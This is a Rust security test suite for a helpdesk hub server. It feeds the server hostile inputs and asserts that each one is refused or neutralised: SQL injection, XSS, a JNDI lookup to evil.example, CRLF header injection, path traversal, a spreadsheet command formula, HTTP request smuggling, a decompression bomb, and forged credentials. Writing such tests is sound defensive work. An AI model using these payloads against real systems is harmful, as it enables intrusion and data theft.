//! The hub's side of the attacks that it must stand: each test is a story of somebody who wants what is not theirs, or
//! wants the hub down. Who is merely slow is in `slow.rs`, who guesses passwords and other sites' pages in `boundaries.rs`.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr,
    reason = "a test fails by panicking"
)]

mod support;

use std::path::{Path, PathBuf};
use std::time::Duration;

use deskside_protocol::ErrorCode;
use deskside_protocol::ticket::TicketDocument;
use deskside_protocol::{AttachmentId, FollowUpId};
use futures_util::future::join_all;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use support::{Desk, announced, assert_problem, document};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// What somebody types who hopes that a text is taken for something else.
const HOSTILE: &[&str] = &[
    "'; DROP TABLE tickets; --",
    "\" OR \"\"=\"",
    "%' OR 1=1 --",
    "$1 {0} %s %n ${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "line\r\nSet-Cookie: deskside_session=evil\r\n\r\n<html>",
    "../../../../etc/passwd\0.png",
    "\u{202e}gpj.exe \u{feff}\u{200b}\u{0}\u{7f}\u{85}\u{2028}",
    "=cmd|' /C calc'!A1",
    "ﬀ𝔘\u{301}\u{301}\u{301}🏴‍☠️",
    "\\\\evil\\share\\x\\..\\",
];

/// All files below a folder.
fn files_below(folder: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() { folders.push(path) } else { found.push(path) }
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_names_never_become_paths_or_headers() {
    let mut desk = Desk::start(None).await;
    let device = desk.device().await;
    let console = desk.administrator().await;
    let long = "x".repeat(5000);
    let names = HOSTILE.iter().copied().chain([long.as_str(), "", ".", "..", "/", "CON", ".bashrc", "a\nb.txt"]);
    let mut digests = Vec::new();
    for (n, name) in names.enumerate() {
        let bytes = format!("file {n}").into_bytes();
        let file = announced(name, "text/plain", &bytes);
        digests.push(file.sha256.as_str().to_owned());
        let mut ticket = document("look at this");
        ticket.attachments.push(file.clone());
        assert_eq!(device.send(&ticket).await.status(), StatusCode::CREATED, "{name:?}");
        let path = format!("/tickets/{}/attachments/{}", ticket.client_id, file.id);
        assert_eq!(device.put(&path, bytes.clone()).await.status(), StatusCode::NO_CONTENT, "{name:?}");
        let answer = console.get(&format!("/console/attachments/{}", file.id)).await;
        let disposition = answer.headers()["content-disposition"].to_str().unwrap().to_owned();
        assert!(disposition.starts_with("attachment; filename=\""), "{disposition}");
        assert!(disposition.is_ascii() && !disposition.contains(['\r', '\n', '\0']), "{disposition:?}");
        assert_eq!(disposition.matches('"').count(), 2, "{disposition}");
        let plain = disposition.split('"').nth(1).unwrap();
        assert!(!plain.is_empty() && !plain.contains(['/', '\\']) && !plain.starts_with('.'), "{disposition}");
        assert!(answer.headers().get("set-cookie").is_none());
        assert_eq!(answer.bytes().await.unwrap(), bytes);
        let kept = device.changes(None).await.tickets;
        let shown = &kept.iter().find(|seen| seen.client_id == ticket.client_id).unwrap().attachments[0].name;
        assert!(!shown.is_empty() && shown.len() <= 255 && !shown.contains(['/', '\\', '\n', '\u{202e}']), "{shown:?}");
    }
    // On the disk there are the hub's own names and no others, in the hub's own folder and nowhere else.
    for file in files_below(desk.config.data.parent().unwrap()) {
        let name = file.file_name().unwrap().to_str().unwrap().to_owned();
        let own = name.starts_with("hub.") || digests.contains(&name);
        assert!(own && file.starts_with(&desk.config.data), "{}", file.display());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_that_lie_are_not_kept() {
    let mut desk = Desk::start(None).await;
    let device = desk.device().await;
    let console = desk.administrator().await;
    let bytes = vec![1_u8; 1000];
    let mut ticket = document("files");
    let (empty, file) = (announced("empty", "text/plain", b""), announced("a", "text/plain", &bytes));
    ticket.attachments = vec![empty.clone(), file.clone()];
    device.send(&ticket).await;
    let path = |id: AttachmentId| format!("/tickets/{}/attachments/{id}", ticket.client_id);

    // Nothing at all is a file too; something is not that file.
    assert_problem(device.put(&path(empty.id), vec![0]).await, 413, ErrorCode::FileTooLarge).await;
    assert_eq!(device.put(&path(empty.id), Vec::new()).await.status(), StatusCode::NO_CONTENT);
    assert_eq!(device.get(&path(empty.id)).await.bytes().await.unwrap().len(), 0);
    // Without a length before it: counted as it comes, and not to the end of an endless one.
    let chunks = || futures_util::stream::iter((0..64).map(|_| Ok::<_, std::io::Error>(vec![1_u8; 64 * 1024])));
    let endless = device.request(Method::PUT, &path(file.id)).body(reqwest::Body::wrap_stream(chunks()));
    assert_problem(endless.send().await.unwrap(), 413, ErrorCode::FileTooLarge).await;
    assert_problem(device.put(&path(file.id), vec![2; 1000]).await, 422, ErrorCode::FileUnreadable).await;
    assert_problem(device.put(&path(file.id), vec![1; 999]).await, 422, ErrorCode::FileUnreadable).await;
    // A length that never comes, and an end before it.
    let mut broken = TcpStream::connect(desk.hub.as_ref().unwrap().address).await.unwrap();
    let head = format!(
        "PUT /api/v1{} HTTP/1.1\r\nHost: hub\r\nAuthorization: Bearer {}\r\nContent-Length: 1000\r\n\r\n{}",
        path(file.id),
        device.credential,
        "\u{1}".repeat(500)
    );
    broken.write_all(head.as_bytes()).await.unwrap();
    drop(broken);
    assert_problem(device.get(&path(file.id)).await, 404, ErrorCode::NotFound).await;
    // A bomb is bytes here: nothing is unpacked, neither a body nor a file.
    let bomb: Vec<u8> = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3].into_iter().chain(std::iter::repeat_n(0, 1000)).collect();
    let packed = device.request(Method::POST, "/tickets").header("content-type", "application/json");
    let packed = packed.header("content-encoding", "gzip").body(bomb);
    assert_problem(packed.send().await.unwrap(), 400, ErrorCode::BadRequest).await;
    // A million parts, however they are spelled.
    let parts = "--x\r\nContent-Disposition: form-data; name=a\r\n\r\n\r\n".repeat(20_000);
    let form = device.request(Method::POST, "/tickets").header("content-type", "multipart/form-data; boundary=x");
    assert_problem(form.body(parts).send().await.unwrap(), 415, ErrorCode::BadRequest).await;
    let mut many = serde_json::to_value(document("many")).unwrap();
    many["attachments"] = Value::Array(vec![serde_json::to_value(&empty).unwrap(); 4000]);
    assert_problem(device.post("/tickets", &many).await, 422, ErrorCode::TooManyFiles).await;
    let ids = json!({ "id": FollowUpId::new(), "text": "x", "internal": false, "new_state": null,
        "attachments": vec![AttachmentId::new(); 6000] });
    assert_problem(console.post("/console/tickets/1/follow-ups", &ids).await, 422, ErrorCode::TooManyFiles).await;

    assert_eq!(device.put(&path(file.id), bytes.clone()).await.status(), StatusCode::NO_CONTENT, "the real one");
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(std::fs::read_dir(desk.config.data.join("incoming")).unwrap().count(), 0, "nothing is left of the rest");
    assert_eq!(device.changes(None).await.tickets.len(), 1);
}

/// Puts the text in the place of every text in a value, one at a time.
fn with_each_text(value: &Value, text: &str) -> Vec<Value> {
    match value {
        Value::String(_) => vec![json!(text)],
        Value::Array(items) => (0..items.len())
            .flat_map(|at| {
                with_each_text(&items[at], text).into_iter().map(move |changed| {
                    let mut items = items.clone();
                    items[at] = changed;
                    Value::Array(items)
                })
            })
            .collect(),
        Value::Object(fields) => fields
            .iter()
            .flat_map(|(name, field)| {
                with_each_text(field, text).into_iter().map(move |changed| {
                    let mut fields = fields.clone();
                    fields[name] = changed;
                    Value::Object(fields)
                })
            })
            .collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) => Vec::new(),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_text_is_ever_anything_but_text() {
    let mut desk = Desk::start(None).await;
    let console = desk.administrator().await;
    let mut device = desk.device().await;
    let (first, number) = device.report("before").await;
    let mut kept = 1;
    for text in HOSTILE {
        // A device asks so much at a time; the attacker takes another one.
        device = desk.device().await;
        let mut whole = document("x");
        whole.attachments.push(announced("a.txt", "text/plain", b"x"));
        for changed in with_each_text(&serde_json::to_value(&whole).unwrap(), text) {
            let mut changed = changed;
            if changed["client_id"] == json!(whole.client_id) {
                changed["client_id"] = json!(deskside_protocol::ClientId::new());
            }
            if let Some(file) = changed["attachments"].get_mut(0)
                && file["id"] == json!(whole.attachments[0].id)
            {
                file["id"] = json!(AttachmentId::new());
            }
            let answer = device.post("/tickets", &changed).await;
            let status = answer.status();
            assert!(status == StatusCode::CREATED || status.is_client_error(), "{status} to {changed}");
            kept += usize::from(status == StatusCode::CREATED);
            if let Ok(read) = serde_json::from_value::<TicketDocument>(changed.clone())
                && status == StatusCode::CREATED
            {
                let receipt: Value = answer.json().await.unwrap();
                let seen = console.ticket(receipt["number"].as_u64().unwrap()).await;
                assert_eq!(seen.document, read, "what was sent is what is seen");
            }
        }
        let (id, _) = device.report("thread").await;
        kept += 1;
        let reply = json!({ "id": FollowUpId::new(), "text": text, "attachments": [] });
        let verdict = json!({ "id": FollowUpId::new(), "verdict": { "verdict": "rate", "stars": 5, "comment": text } });
        let say = json!({ "id": FollowUpId::new(), "text": text, "internal": false, "new_state": null });
        let person =
            json!({ "login": text, "display_name": text, "role": "technician", "password": "a first password" });
        let token = json!({ "label": text, "uses": 1, "expires_at": "2026-12-01T00:00:00Z" });
        let encoded: String = url::form_urlencoded::byte_serialize(text.as_bytes()).collect();
        let answers = [
            device.post(&format!("/tickets/{id}/follow-ups"), &reply).await,
            device.post(&format!("/tickets/{id}/verdicts"), &verdict).await,
            device.get(&format!("/tickets?since={encoded}")).await,
            console.post(&format!("/console/tickets/{number}/follow-ups"), &say).await,
            console.post("/console/people", &person).await,
            console.patch(&format!("/console/people/{encoded}"), &json!({ "display_name": text })).await,
            console.patch("/console/people/admin", &json!({ "display_name": text })).await,
            console.patch(&format!("/console/tickets/{number}"), &json!({ "assignee": text })).await,
            console.post("/console/enrolment-tokens", &token).await,
            console.get(&format!("/console/tickets?q={encoded}&assignee={encoded}")).await,
            console.get(&format!("/console/tickets?after={encoded}")).await,
            console.get(&format!("/console/journal?before={encoded}")).await,
            console.get(&format!("/console/attachments/{encoded}")).await,
            desk.try_sign_in(text, text).await,
            desk.enrol(text).await,
        ];
        for answer in answers {
            assert!(!answer.status().is_server_error(), "{} from {} for {text:?}", answer.status(), answer.url());
            assert!(answer.headers().get("set-cookie").is_none(), "{text:?}");
        }
        // What is searched for is found, and nothing else is.
        let found = console.list(&format!("closed=true&q={encoded}")).await;
        assert!(found.tickets.iter().all(|row| row.title != "before" || row.number == number), "{text:?}");
    }
    let total = console.list("closed=true").await.total;
    assert_eq!(total, kept as u64, "every ticket is there, and no other");
    assert_eq!(console.ticket(number).await.document.client_id, first);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn other_peoples_tickets_are_like_none_at_all() {
    let mut desk = Desk::start(None).await;
    let (anna, mallory) = (desk.device().await, desk.device().await);
    let console = desk.administrator().await;
    let bytes = b"private".to_vec();
    let mut ticket = document("Anna's");
    let file = announced("a.txt", "text/plain", &bytes);
    let waiting = announced("b.txt", "text/plain", b"to come");
    ticket.attachments = vec![file.clone(), waiting.clone()];
    anna.send(&ticket).await;
    let id = ticket.client_id;
    anna.put(&format!("/tickets/{id}/attachments/{}", file.id), bytes).await;
    console.say(1, "for Anna alone", false, Some("solved")).await;

    let nobodys = document("").client_id;
    let mut shown = Vec::new();
    for ticket in [id, nobodys] {
        let reply = json!({ "id": FollowUpId::new(), "text": "x", "attachments": [] });
        let mut answers = vec![
            mallory.get(&format!("/tickets/{ticket}/receipt")).await,
            mallory.post(&format!("/tickets/{ticket}/follow-ups"), &reply).await,
            mallory.verdict(ticket, json!({ "verdict": "confirm" })).await,
            mallory.verdict(ticket, json!({ "verdict": "reopen", "text": "x" })).await,
            mallory.verdict(ticket, json!({ "verdict": "rate", "stars": 1 })).await,
        ];
        for file in [&file, &waiting] {
            let path = format!("/tickets/{ticket}/attachments/{}", file.id);
            answers.push(mallory.get(&path).await);
            answers.push(mallory.put(&path, b"to come".to_vec()).await);
        }
        let mut said = Vec::new();
        for answer in answers {
            let status = answer.status();
            let mut problem: Value = answer.json().await.unwrap();
            problem["request_id"] = Value::Null;
            said.push((status, problem));
        }
        assert!(said.iter().all(|(status, _)| *status == StatusCode::NOT_FOUND), "{said:?}");
        shown.push(said);
    }
    assert_eq!(shown[0], shown[1], "whether it exists is not told either");
    // The same identity, sent again by somebody else, tells nothing and changes nothing.
    assert_problem(mallory.send(&ticket).await, 404, ErrorCode::NotFound).await;
    let mut theirs = document("Mallory's");
    theirs.attachments.push(file.clone());
    assert_problem(mallory.send(&theirs).await, 409, ErrorCode::Refused).await;
    assert!(mallory.changes(None).await.tickets.is_empty());
    let view = anna.changes(None).await.tickets.remove(0);
    assert_eq!((view.thread.len(), view.rating), (1, None), "nothing was done to it");
    // The console is not a device's, and a device's tickets are not everybody's.
    for path in ["/console/tickets", "/console/tickets/1", "/console/people", "/console/events", "/console/journal"] {
        assert_problem(anna.get(path).await, 401, ErrorCode::Unauthorized).await;
        assert_problem(
            desk.http.get(format!("{}/api/v1{path}", desk.url)).send().await.unwrap(),
            401,
            ErrorCode::Unauthorized,
        )
        .await;
    }
    assert_problem(console.get("/tickets").await, 401, ErrorCode::Unauthorized).await;
    assert_problem(console.get(&format!("/tickets/{id}/receipt")).await, 401, ErrorCode::Unauthorized).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_cannot_be_forged_bent_or_used_again() {
    let mut desk = Desk::start(None).await;
    let token = desk.token(1).await;
    let device = desk.device().await;
    let credential = &device.credential;
    let last = if credential.ends_with('A') { 'B' } else { 'A' };
    let bent = [
        credential.to_uppercase(),
        credential[..credential.len() - 1].to_owned(),
        format!("{credential}A"),
        format!("{}{last}", &credential[..credential.len() - 1]),
        format!("{credential},{credential}"),
        format!("{credential} x"),
        token.clone(),
        format!("dsk_{}", "A".repeat(43)),
        hex_digest(credential),
    ];
    let url = format!("{}/api/v1/tickets", desk.url);
    for forged in &bent {
        let answer = desk.http.get(&url).bearer_auth(forged).send().await.unwrap();
        assert_problem(answer, 401, ErrorCode::Unauthorized).await;
    }
    for (name, value) in [
        ("authorization", format!("Basic {credential}")),
        ("cookie", format!("deskside_session={credential}")),
        ("x-api-key", credential.clone()),
    ] {
        let answer = desk.http.get(&url).header(name, value).send().await.unwrap();
        assert_problem(answer, 401, ErrorCode::Unauthorized).await;
    }
    // A token is for so many, even for many at once.
    let all = join_all((0..10).map(|_| desk.enrol(&token))).await;
    assert_eq!(all.iter().filter(|answer| answer.status() == StatusCode::CREATED).count(), 1);
    // A session that is over is over, wherever it was copied to.
    let console = desk.administrator().await;
    let copied = console.clone();
    assert_eq!(
        console.request(Method::DELETE, "/console/session").send().await.unwrap().status(),
        StatusCode::NO_CONTENT
    );
    assert_problem(copied.get("/console/tickets").await, 401, ErrorCode::Unauthorized).await;
    // One that was made elsewhere is none; a cookie that a subdomain planted is not ours behind TLS.
    let made_up = desk.http.get(format!("{}/api/v1/console/session", desk.url));
    let made_up = made_up.header("cookie", format!("deskside_session=dss_{}", "A".repeat(43)));
    assert_problem(made_up.send().await.unwrap(), 401, ErrorCode::Unauthorized).await;
    let secure = Desk::start_with(|config| config.public_url = Some("https://desk.example".parse().unwrap())).await;
    let signed_in = secure.try_sign_in("admin", &secure.made_password()).await;
    let cookie = signed_in.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
    let planted = cookie.replace("__Host-", "");
    let answer = secure.http.get(format!("{}/api/v1/console/session", secure.url)).header("cookie", planted);
    assert_problem(answer.send().await.unwrap(), 401, ErrorCode::Unauthorized).await;
}

fn hex_digest(text: &str) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_is_slowed_down_whatever_address_is_claimed() {
    let desk = Desk::start(None).await;
    let mut refused = false;
    for n in 0..30 {
        let request = desk.http.post(format!("{}/api/v1/console/session", desk.url));
        let request = request
            .header("x-forwarded-for", format!("198.51.100.{n}"))
            .header("forwarded", format!("for=198.51.100.{n}"))
            .header("x-real-ip", format!("198.51.100.{n}"));
        let answer = request.json(&json!({ "login": "admin", "password": format!("guess {n}") })).send().await.unwrap();
        refused |= answer.status() == StatusCode::TOO_MANY_REQUESTS;
    }
    assert!(refused, "an address that anybody can write is believed");
    // Tokens are longer than anybody guesses, and guessing is slowed down all the same.
    let guesses = (0..400).map(|n| {
        let token = format!("dst_{n:043}");
        let desk = &desk;
        async move { desk.enrol(&token).await }
    });
    let answers = join_all(guesses).await;
    assert!(answers.iter().all(|answer| answer.status().is_client_error()));
    assert!(answers.iter().any(|answer| answer.status() == StatusCode::TOO_MANY_REQUESTS));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_route_carries_the_headers_and_trusts_no_other_origin() {
    let desk = Desk::start_with(|config| config.public_url = Some("https://desk.example".parse().unwrap())).await;
    let document: Value =
        desk.http.get(format!("{}/api/v1/openapi.json", desk.url)).send().await.unwrap().json().await.unwrap();
    for (path, methods) in document["paths"].as_object().unwrap() {
        let path = path
            .replace("{client_id}", "01936b2a-7d4f-7c10-8000-000000000001")
            .replace("{id}", "01936b2a-7d4f-7c10-8000-000000000001")
            .replace("{number}", "1")
            .replace("{login}", "admin");
        for method in methods.as_object().unwrap().keys().map(String::as_str).chain(["options", "trace", "propfind"]) {
            let method = Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
            let request = desk.http.request(method.clone(), format!("{}{path}", desk.url));
            let request = request
                .header("origin", "https://evil.example")
                .header("access-control-request-method", "POST")
                .header("access-control-request-headers", "authorization");
            let answer = request.send().await.unwrap();
            let what = format!("{method} {path}");
            assert!(!answer.status().is_server_error(), "{what}: {}", answer.status());
            let headers = answer.headers();
            let is = |name: &str, value: &str| {
                assert_eq!(headers.get(name).map(|v| v.to_str().unwrap()), Some(value), "{what}: {name}");
            };
            is("x-content-type-options", "nosniff");
            is("x-frame-options", "DENY");
            is("referrer-policy", "no-referrer");
            is("strict-transport-security", "max-age=31536000");
            is("cross-origin-resource-policy", "same-origin");
            is("cross-origin-opener-policy", "same-origin");
            assert!(headers["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{what}");
            for absent in ["access-control-allow-origin", "server", "x-powered-by", "set-cookie"] {
                assert!(!headers.contains_key(absent), "{what} says {absent}");
            }
        }
    }
}

/// Says this on a connection of its own; gives what comes back.
async fn raw(desk: &Desk, said: &str) -> String {
    let mut stream = TcpStream::connect(desk.hub.as_ref().unwrap().address).await.unwrap();
    stream.write_all(said.as_bytes()).await.unwrap();
    let mut heard = Vec::new();
    let _ended = tokio::time::timeout(Duration::from_secs(3), stream.read_to_end(&mut heard)).await;
    String::from_utf8_lossy(&heard).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_that_two_readers_could_read_differently_are_refused() {
    let desk = Desk::start_with(|config| config.patience.head = Duration::from_secs(2)).await;
    let smuggled = "0\r\n\r\nGET /api/v1/health HTTP/1.1\r\nHost: x\r\n\r\n";
    for head in [
        "POST /api/v1/enrol HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
        "POST /api/v1/enrol HTTP/1.1\r\nHost: x\r\nContent-Length: +5\r\n\r\n",
        "POST /api/v1/enrol HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n",
        "POST /api/v1/enrol HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\nHost : x\r\n\r\n",
        "GET /api/v1/health HTTP/1.1\r\n Host: x\r\n\r\n",
        "GET /api/v1/health HTTP/9.9\r\nHost: x\r\n\r\n",
        "GET /api/v1/\0health HTTP/1.1\r\nHost: x\r\n\r\n",
    ] {
        let heard = raw(&desk, &format!("{head}{smuggled}")).await;
        let answers = heard.matches("HTTP/1.1 ").count();
        assert!(answers <= 1 && !heard.contains("HTTP/1.1 200"), "{head:?}\n{heard}");
    }
    // Of both lengths the hub believes the one that it must (RFC 9112, 6.3): what follows is a request of its own, which
    // asks for itself.
    let both = format!(
        "POST /api/v1/enrol HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{smuggled}",
        smuggled.len()
    );
    let heard = raw(&desk, &both).await;
    assert!(heard.starts_with("HTTP/1.1 415"), "{heard}");
    assert!(heard.matches("HTTP/1.1 ").count() <= 2, "{heard}");
    let many: String = (0..100).map(|n| format!("X-{n}: y\r\n")).collect();
    let heard = raw(&desk, &format!("GET /api/v1/health HTTP/1.1\r\nHost: x\r\n{many}\r\n")).await;
    assert!(heard.starts_with("HTTP/1.1 431"), "{heard}");
    let long = "x".repeat(1_000_000);
    let heard = raw(&desk, &format!("GET /api/v1/health?{long} HTTP/1.1\r\nHost: x\r\n\r\n")).await;
    assert!(!heard.contains("HTTP/1.1 200"), "{heard}");
    let answer = desk.http.get(format!("{}/api/v1/health", desk.url)).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK, "the hub is well");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_would_unpack_to_gigabytes_stays_as_it_came() {
    let desk = Desk::start(None).await;
    let device = desk.device().await;
    let picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\x01\x86\xa0\0\x01\x86\xa0\x08\x06\0\0\0".as_slice();
    let archive = b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\x10\0\0\0\xff\xff\xff\xff".as_slice();
    for (name, bytes) in [("a.png", picture), ("a.zip", archive), ("a.gif", b"GIF89a/*<script>*/=alert(1)")] {
        let mut ticket = document(name);
        ticket.attachments.push(announced(name, "application/octet-stream", bytes));
        device.send(&ticket).await;
        let path = format!("/tickets/{}/attachments/{}", ticket.client_id, ticket.attachments[0].id);
        assert_eq!(device.put(&path, bytes.to_vec()).await.status(), StatusCode::NO_CONTENT, "{name}");
        assert_eq!(device.get(&path).await.bytes().await.unwrap(), bytes, "{name}");
    }
}
